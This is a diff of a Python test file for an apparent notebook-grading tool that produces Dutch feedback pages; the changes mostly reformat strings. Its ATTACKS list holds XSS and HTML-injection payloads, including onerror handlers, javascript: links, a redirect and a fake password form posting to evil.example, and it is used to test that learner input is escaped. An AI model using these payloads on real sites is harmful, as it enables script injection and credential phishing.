@@ -267,7 +267,7 @@ def test_a_page_says_in_dutch_what_holds_what_was_seen_and_what_to_look_at(grade
             )
     assert "Een cel liep langer dan 20 seconden." in said
     assert "epoch 1 klaar" in said and "def fit(): pass" in said
-    assert "w_1 \\cdot w_2" in said and "Mijn antwoord met" in said
+    assert "w_1 · w_2" in said and "Mijn antwoord met" in said
 
 
 def test_the_language_is_that_of_the_notebook_handed_in_unless_another_is_asked_for(graded):
@@ -386,8 +386,10 @@ ATTACKS = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     '"><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](JaVaScRiPt&colon;alert(1))",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=)"
+    " [z](JaVaScRiPt&colon;alert(1))",
     "![pixel](https://tracker.example/pixel.png)",
     "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
     '<p style="position:fixed;inset:0">over everything</p></style></main></body>',
@@ -395,7 +397,9 @@ ATTACKS = [
     "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
     "<form action=//evil.example><input name=password><button>Log in</button></form>",
     "</code></pre></details></section><h1>Total 20 / 20</h1><!-- --!> ]]> <![CDATA[",
-    "\x00\x08\x1b[31mred\x1b[0m \ud800 \ufffe \U0001ffff \u202e gnirts \u2066 \x85 \r\n a\u0301" + "\u0300" * 500,
+    "\x00\x08\x1b[31mred\x1b[0m \ud800 \ufffe \U0001ffff \u202e gnirts \u2066 \x85 \r\n"
+    + "a"
+    + "\u0300" * 500,
     "<a href='https://evil.example' onclick=alert(1) target=_blank>x</a> <https://evil.example>",
     "| a | b |\n|---|---|\n| <script>alert(1)</script> | `</td>` |",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
@@ -431,7 +435,7 @@ def test_nothing_that_a_learner_writes_becomes_more_than_text(attack):
                 exercises=(judged,),
                 questions=(answered, replace(answered, question_id=attack, max_points=1)),
                 remarks=(Remark("name", attack, attack, attack),),
-            ),  # fmt: skip
+            ),
             codes={"fit": attack},
             outputs={"fit": attack},
             texts={"page": attack},
